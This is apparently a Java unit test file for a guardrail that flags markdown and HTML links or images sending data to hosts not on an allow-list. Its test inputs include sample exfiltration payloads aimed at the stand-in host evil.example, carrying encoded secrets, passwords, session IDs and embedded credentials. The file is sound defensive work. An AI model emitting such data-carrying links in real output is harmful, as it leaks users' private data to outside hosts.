package dev.gatehouse.policies.guardrails;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExfilLinkInspectorTest {
  private static final List<String> ALLOWED = List.of("docs.example.com", "*.github.com", "github.com");
  private final ExfilLinkInspector inspector = new ExfilLinkInspector(ALLOWED, 40, 160, false, false);

  @ParameterizedTest
  @ValueSource(strings = {
      "![loading](https://evil.example/pixel.png?d=c2VjcmV0)",
      "![](https://evil.example/log?q=the+users+password)",
      "![x](//evil.example/i.png?x=1)",
      "![x](<https://evil.example/a?b=c>)",
      "[click here](https://evil.example/?session=abc)",
      "See https://evil.example/collect?data=foo for details.",
      "<https://evil.example/?k=v>",
      "<img src=\"https://evil.example/p.gif?u=alice\">",
      "<img alt=x src='//evil.example/p.gif?u=alice'>",
      "<IMG SRC=https://evil.example/p.gif?u=alice>",
      "![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg/p.png)",
      "![x](https://aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg.evil.example/p.png)",
      "![x](https://user:secret@evil.example/p.png)",
      "[ref]: https://evil.example/p.png?d=1",
      "![x](HTTPS://EVIL.EXAMPLE/p.png?d=1)",
      "![x](https://github.com.evil.example/p.png?d=1)",
      "![x](https://docs.example.com.evil.example/p.png?d=1)",
      "![x](http://[2001:db8::1]/p.png?d=1)",
      "![x](https://10.0.0.1:8080/p.png?d=1)",
  })
  void findsLinksThatCarryDataToOtherHosts(String text) {
    List<Finding> found = inspector.inspect(text);
    assertThat(found).as(text).hasSize(1);
    assertThat(found.get(0).kind()).isEqualTo(FindingKind.EXFIL_LINK);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "![logo](https://cdn.example.net/logo.png)", // no data
      "![chart](https://docs.example.com/chart.png?v=2)", // allowed host
      "See [the guide](https://docs.example.com/guide?section=install).",
      "![x](https://raw.github.com/o/r/main/img.png?raw=true)", // subdomain of an allowed wildcard
      "https://github.com/owner/repo/pull/42?diff=split",
      "Read https://en.wikipedia.org/wiki/Markdown#Syntax for the syntax.", // fragment only
      "https://example.org/a/b/c/d", // short segments
      "![](./images/diagram.png?raw=1)", // relative
      "// a code comment with //double slashes",
      "file:///etc/hosts?x=1",
      "ftp://evil.example/a?b=c",
      "mailto:alice@example.org?subject=hi",
      "The API lives at https://api.example.org/v1/users.",
      "Call https://evil.example/? and see",
      "shttp://evil.example/?x=1",
  })
  void leavesOrdinaryLinksAlone(String text) {
    assertThat(inspector.inspect(text)).as(text).isEmpty();
  }

  @Test
  void theSpanIsTheUrlAndTheExcerptTheHost() {
    String text = "Look: ![chart](https://Evil.Example.:8443/c.png?d=secret \"title\") done";
    Finding f = inspector.inspect(text).get(0);
    assertThat(text.substring(f.start(), f.end())).isEqualTo("https://Evil.Example.:8443/c.png?d=secret");
    assertThat(f.excerpt()).isEqualTo("evil.example");
    assertThat(f.reason()).isEqualTo("markdown image to a host not allowed, with a query");
  }

  @Test
  void namesWhatKindOfLinkItIs() {
    assertThat(inspector.inspect("[a](https://e.example/?q=1)").get(0).reason()).startsWith("markdown link ");
    assertThat(inspector.inspect("[a [b] c](https://e.example/?q=1)").get(0).reason()).startsWith("markdown link ");
    assertThat(inspector.inspect("![a [b] c](https://e.example/?q=1)").get(0).reason()).startsWith("markdown image ");
    assertThat(inspector.inspect("<a href=\"https://e.example/?q=1\">").get(0).reason()).startsWith("HTML link ");
    assertThat(inspector.inspect("<img src=\"https://e.example/?q=1\">").get(0).reason()).startsWith("HTML image ");
    assertThat(inspector.inspect("go to https://e.example/?q=1").get(0).reason()).startsWith("URL ");
  }

  @Test
  void urlsEndWhereAutolinksEnd() {
    String text = "(see https://e.example/x?q=(a)b), then stop.";
    Finding f = inspector.inspect(text).get(0);
    assertThat(text.substring(f.start(), f.end())).isEqualTo("https://e.example/x?q=(a)b");
    String md = "[x](https://e.example/?q=1)[y](https://e.example/?r=2)";
    assertThat(inspector.inspect(md)).hasSize(2);
  }

  @Test
  void longSegmentsAndPathsCarryData() {
    ExfilLinkInspector strict = new ExfilLinkInspector(List.of(), 8, 16, false, false);
    assertThat(strict.inspect("https://e.example/abcdefgh/")).isEmpty();
    assertThat(strict.inspect("https://e.example/abcdefghi/")).hasSize(1);
    assertThat(strict.inspect("https://e.example/a/b/c/d/e/f/g/h")).isEmpty(); // 16 characters
    assertThat(strict.inspect("https://e.example/a/b/c/d/e/f/g/h/")).hasSize(1);
  }

  @Test
  void imagesOnlySkipsLinks() {
    ExfilLinkInspector images = new ExfilLinkInspector(List.of(), 40, 160, true, false);
    assertThat(images.inspect("[a](https://e.example/?q=1) https://e.example/?q=1 <a href='https://e.example/?q=1'>")).isEmpty();
    assertThat(images.inspect("![a](https://e.example/?q=1)")).hasSize(1);
    assertThat(images.inspect("<img src='https://e.example/?q=1'>")).hasSize(1);
    assertThat(images.inspect("[r]: https://e.example/?q=1")).hasSize(1);
  }

  @Test
  void anyExternalReportsLinksWithoutData() {
    ExfilLinkInspector any = new ExfilLinkInspector(ALLOWED, 40, 160, false, true);
    assertThat(any.inspect("![logo](https://cdn.example.net/logo.png)")).hasSize(1);
    assertThat(any.inspect("![logo](https://docs.example.com/logo.png)")).isEmpty();
  }

  @Test
  void aWildcardCoversSubdomainsNotTheApexNorLookAlikes() {
    ExfilLinkInspector wild = new ExfilLinkInspector(List.of("*.example.com"), 40, 160, false, false);
    assertThat(wild.inspect("https://a.b.example.com/?q=1")).isEmpty();
    assertThat(wild.inspect("https://example.com/?q=1")).hasSize(1);
    assertThat(wild.inspect("https://badexample.com/?q=1")).hasSize(1);
  }
}
